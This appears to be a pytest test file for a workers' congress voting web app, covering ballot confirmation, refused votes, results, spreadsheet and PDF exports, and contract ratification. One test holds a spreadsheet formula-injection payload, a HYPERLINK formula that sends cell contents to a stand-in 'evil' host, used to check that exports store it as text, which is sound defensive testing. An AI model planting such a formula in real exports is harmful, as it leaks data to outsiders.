"""The vote's pages: the secretary's motion, the delegate's ballot on a phone with its
confirmation step, every refusal, and the results with their exports."""

from datetime import UTC, datetime, timedelta
from io import BytesIO

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app import clock
from app.audit.operations import history
from app.congress import operations as ops
from app.congress.models import Ballot, Delegate, Motion
from app.extensions import db
from tests.fixtures.congress import TOTAL, build_sitting, check_in, open_motion, stored
from tests.fixtures.pages import pdf_text, text

ANSWERS = {"item-1": "yes", "item-2": "no", "item-3": "abstain"}


@pytest.fixture
def open_vote(sitting):
    motion = open_motion(sitting, present=25)
    db.session.commit()
    return motion


def test_a_delegate_votes_every_item_with_a_confirmation_step(client, sign_in, sitting, open_vote):
    url = f"/motions/{open_vote.id}/vote"
    sign_in(sitting.delegates[0])
    page = text(client.get(url))
    assert "cannot be changed" in page
    assert page.count('type="radio"') == 9  # three items × yes / no / abstain

    confirm = text(client.post(url, data={**ANSWERS, "step": "confirm"}))
    assert "Cast my vote" in confirm and "Change" in confirm
    assert 'class="answer answer-no"' in confirm
    assert stored() == (0, 0)  # nothing is cast before the confirmation

    change = text(client.post(url, data={**ANSWERS, "step": "change"}))
    assert 'name="item-2" value="no" checked' in change

    response = client.post(url, data={**ANSWERS, "step": "cast"})
    assert response.status_code == 302 and response.headers["Location"].endswith(url)
    assert stored() == (1, 1)
    (ballot,) = db.session.scalars(sa.select(Ballot))
    assert ballot.answers == {"1": "yes", "2": "no", "3": "abstain"}

    recorded = text(client.get(url))
    assert "Your vote is recorded" in recorded
    # Nothing on the screen tells a third party how the delegate voted.
    assert 'type="radio"' not in recorded and "answer-" not in recorded
    assert 'name="item-' not in recorded


@pytest.mark.parametrize(
    ("case", "status", "words"),
    [
        ("twice", 409, "voted on this motion already"),
        ("closed", 409, "Voting on this motion is closed"),
        ("not checked in", 409, "Check in at the session before voting"),
        ("not a delegate", 403, "Only a delegate of this congress votes"),
        ("joined after the opening", 403, "not on the roster when the vote opened"),
        ("unanswered item", 422, "item 3 has no answer"),
    ],
)
def test_a_refused_vote_says_why_and_stores_nothing(
    client, sign_in, sitting, open_vote, case, status, words, make
):
    voter = sitting.delegates[0]
    data = {**ANSWERS, "step": "cast"}
    if case == "twice":
        ops.cast_ballot(open_vote, voter, {1: "yes", 2: "yes", 3: "yes"})
    elif case == "closed":
        ops.close_voting(open_vote, sitting.secretary)
    elif case == "not checked in":
        voter = sitting.delegates[TOTAL - 1]  # only the first 25 checked in
    elif case == "not a delegate":
        voter = sitting.secretary
    elif case == "joined after the opening":
        voter = make.user(roles=["delegate"], enterprise=sitting.enterprise)
        sitting.congress.delegates.append(
            Delegate(
                user_id=voter.id,
                employee_no="E9999",
                name=voter.full_name,
                constituency="第1代表团",
                gender="female",
            )
        )
    else:
        del data["item-3"]
    db.session.commit()
    before = stored()
    sign_in(voter)
    page = text(client.post(f"/motions/{open_vote.id}/vote", data=data), status)
    assert words in page
    assert stored() == before


def test_the_ballot_page_refuses_once_the_closing_time_has_passed_though_the_tick_has_not_run(
    client, sign_in, sitting, monkeypatch
):
    closes = datetime(2026, 6, 20, 4, tzinfo=UTC)  # 12:00 in Beijing
    motion = open_motion(sitting, closes_at=closes)
    db.session.commit()
    monkeypatch.setattr(clock, "now", lambda: closes + timedelta(minutes=5))
    sign_in(sitting.delegates[0])
    url = f"/motions/{motion.id}/vote"

    assert "Voting on this motion closed at 12:00." in text(client.get(url), 409)
    page = text(client.post(url, data={**ANSWERS, "step": "cast"}), 409)

    assert "Voting on this motion closed at 12:00." in page
    assert motion.state == "open" and stored() == (0, 0)


def test_the_secretary_runs_a_motion_and_reads_the_results(client, sign_in, sitting):
    ops.open_session(sitting.session, sitting.secretary)
    check_in(sitting, TOTAL)
    db.session.commit()
    sign_in(sitting.secretary)
    response = client.post(
        f"/sessions/{sitting.session.id}/motions",
        data={
            "title": "安全生产专项议案",
            "items": "1. 劳保用品: 每季度发放\n2、高温津贴：6至9月发放\n",
            "ballot_kind": "secret",
            "requires_presence": "y",
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    motion = db.session.scalars(sa.select(Motion)).one()
    assert [(i.title, i.text) for i in motion.items] == [
        ("劳保用品", "每季度发放"),
        ("高温津贴", "6至9月发放"),
    ]
    page = text(client.get(f"/motions/{motion.id}"))
    assert f'action="/motions/{motion.id}/open"' in page
    text(client.get(f"/motions/{motion.id}/results"), 409)

    assert client.post(f"/motions/{motion.id}/open").status_code == 302
    for user in sitting.delegates[:17]:
        ops.cast_ballot(motion, user, {1: "yes", 2: "no"})
    db.session.commit()
    page = text(client.get(f"/motions/{motion.id}"))
    assert "17 of 30 voted" in page
    assert f'action="/motions/{motion.id}/close"' in page

    assert client.post(f"/motions/{motion.id}/close").status_code == 302
    results = text(client.get(f"/motions/{motion.id}/results"))
    assert "17 of 30 voted" in results
    assert "more than half of all 30 delegates: at least 16 yes votes" in results
    assert motion.seal in results and "intact" in results
    assert "passed in part" in results


def test_a_delegate_may_not_open_the_voting(client, sign_in, sitting):
    ops.open_session(sitting.session, sitting.secretary)
    check_in(sitting, TOTAL)
    motion = ops.create_motion(sitting.session, sitting.secretary, title="议案", items=[("一", "")])
    db.session.commit()
    sign_in(sitting.delegates[0])
    text(client.post(f"/motions/{motion.id}/open"), 403)
    assert motion.state == "draft"


def test_the_secretary_cancels_a_draft_motion(client, sign_in, sitting):
    motion = ops.create_motion(sitting.session, sitting.secretary, title="议案", items=[("一", "")])
    db.session.commit()
    sign_in(sitting.secretary)
    assert client.post(f"/motions/{motion.id}/cancel").status_code == 302
    assert db.session.get(Motion, motion.id).state == "cancelled"


@pytest.fixture
def closed_vote(sitting):
    ops.open_session(sitting.session, sitting.secretary)
    check_in(sitting, TOTAL)
    motion = ops.create_motion(
        sitting.session,
        sitting.secretary,
        title="职工劳动保护议案",
        items=[(f"第{n}项", "内容") for n in (1, 2, 3)],
    )
    ops.open_voting(motion, sitting.secretary)
    for user in sitting.delegates[:20]:
        ops.cast_ballot(motion, user, {1: "yes", 2: "yes", 3: "no"})
    ops.close_voting(motion, sitting.secretary)
    db.session.commit()
    return motion


def test_the_counts_download_as_a_workbook(client, sign_in, sitting, closed_vote):
    sign_in(sitting.delegates[0])
    response = client.get(f"/motions/{closed_vote.id}/results.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert [1, "第1项", 20, 0, 0, 0, 16, "passed"] in rows
    assert [3, "第3项", 0, 20, 0, 0, 16, "failed"] in rows
    assert ["Seal (SHA-256)", closed_vote.seal] in [r[:2] for r in rows]
    assert any(str(r[1]).startswith("An item passes with yes votes") for r in rows if r[0])


def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, sign_in, sitting):
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    ops.open_session(sitting.session, sitting.secretary)
    check_in(sitting, TOTAL)
    motion = ops.create_motion(
        sitting.session, sitting.secretary, title=formula, items=[("+1+1", ""), ("@SUM(A1)", "")]
    )
    ops.open_voting(motion, sitting.secretary)
    ops.close_voting(motion, sitting.secretary)
    db.session.commit()
    sign_in(sitting.delegates[0])

    response = client.get(f"/motions/{motion.id}/results.xlsx")

    sheet = load_workbook(BytesIO(response.data)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[formula] == cells["+1+1"] == cells["@SUM(A1)"] == "s"
    assert "f" not in cells.values()


def test_the_resolution_is_a_chinese_pdf(client, sign_in, sitting, closed_vote):
    sign_in(sitting.delegates[0])
    response = client.get(f"/motions/{closed_vote.id}/resolution.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF")
    content = pdf_text(response.data)
    assert "职工劳动保护议案" in content and "第 1 页 / 共 1 页" in content


def test_a_contract_draft_passed_by_the_congress_ratifies_the_negotiation(
    client, sign_in, make, walk
):
    negotiation = walk.agreed()
    sitting = build_sitting(make, enterprise=negotiation.enterprise)
    ops.open_session(sitting.session, sitting.secretary)
    check_in(sitting, TOTAL)
    db.session.commit()
    union_chief = walk.w.union_chief
    sign_in(union_chief)
    page = text(client.get(f"/negotiations/{negotiation.id}"))
    assert f'href="/negotiations/{negotiation.id}/submit-to-congress"' in page
    text(client.get(f"/negotiations/{negotiation.id}/submit-to-congress"))
    response = client.post(
        f"/negotiations/{negotiation.id}/submit-to-congress",
        data={"session_id": sitting.session.id},
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    motion = db.session.scalars(sa.select(Motion)).one()
    assert (motion.negotiation_id, negotiation.state) == (negotiation.id, "in_congress")

    sign_in(sitting.secretary)
    assert client.post(f"/motions/{motion.id}/open").status_code == 302
    for user in sitting.delegates[:16]:
        ops.cast_ballot(motion, user, {item.number: "yes" for item in motion.items})
    db.session.commit()
    assert client.post(f"/motions/{motion.id}/close").status_code == 302
    results = text(client.get(f"/motions/{motion.id}/results"))
    assert f'href="/negotiations/{negotiation.id}"' in results
    assert "ratified" in results
    assert db.session.get(type(negotiation), negotiation.id).state == "ratified"


def test_cancelling_a_draft_motion_hands_the_draft_back_to_be_submitted_again(
    client, sign_in, make, walk
):
    negotiation = walk.agreed()
    sitting = build_sitting(make, enterprise=negotiation.enterprise)
    ops.submit_draft(negotiation, sitting.session, walk.w.union_chief)
    db.session.commit()
    motion = db.session.scalars(sa.select(Motion)).one()

    sign_in(sitting.secretary)
    assert client.post(f"/motions/{motion.id}/cancel").status_code == 302
    assert (motion.state, negotiation.state) == ("cancelled", "agreed")
    last = history(negotiation)[-1]
    assert (last.action, last.data) == ("withdraw_from_congress", {"motion_id": motion.id})

    again = ops.submit_draft(negotiation, sitting.session, walk.w.union_chief)
    assert (again.state, negotiation.state) == ("draft", "in_congress")
